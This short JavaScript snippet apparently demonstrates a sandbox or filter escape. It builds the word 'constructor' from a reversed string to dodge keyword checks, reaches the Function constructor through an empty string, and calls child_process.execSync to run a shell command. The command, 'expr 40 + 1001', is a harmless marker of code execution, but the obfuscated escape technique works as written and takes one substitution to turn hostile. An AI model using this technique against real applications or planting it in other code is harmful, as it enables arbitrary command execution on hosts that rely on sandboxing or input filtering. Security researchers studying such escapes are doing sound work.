const k=[...'rotcurtsnoc'].reverse().join('');
const {[k]:{[k]:F}}='';
F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
